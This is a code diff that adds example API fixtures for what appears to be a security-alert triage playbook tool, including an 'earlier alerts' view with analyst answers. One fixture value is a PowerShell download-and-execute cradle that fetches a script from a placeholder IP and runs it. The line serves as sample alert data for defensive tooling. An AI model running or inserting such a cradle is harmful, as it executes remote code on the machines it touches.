@@ -1,7 +1,7 @@
 import type { Answer, PlaybookSummary, PlaybookView, StepView } from "#contracts/playbook";
 import type { playbookRoutes } from "#contracts/routes/playbooks";
 import type { Examples } from "./example.ts";
-import { alertId, commandLine, coverage, event, eventId, host, processKey, ruleId, source } from "./shared.ts";
+import { alert, alertId, commandLine, coverage, event, eventId, host, processKey, ruleId, source } from "./shared.ts";
 
 const step: StepView = {
   id: "capture",
@@ -245,6 +245,29 @@ export const playbookExamples: Examples<typeof playbookRoutes> = {
         because: ["The output is stored in a temp folder."],
         evidence: [{ kind: "event", id: eventId, label: "cmd.exe started by WmiPrvSE.exe" }],
       },
+    },
+  },
+  earlierAlerts: {
+    params: { id: alertId },
+    response: {
+      items: [
+        {
+          alert: { ...alert, id: "br20w9-lgu2AJJbdED5O30", time: "2026-06-16T13:04:03.930Z" },
+          differs: ["payload"],
+          payload: ["Get-Service | Where-Object Status -eq Running"],
+          answers: [
+            {
+              topic: "output capture",
+              value: "lowers",
+              note: "The inventory of the platform team.",
+              actor: "lena",
+              at: "2026-06-16T13:20:00.000Z",
+            },
+          ],
+        },
+      ],
+      total: 4,
+      payload: ["IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"],
     },
   },
   answer: {
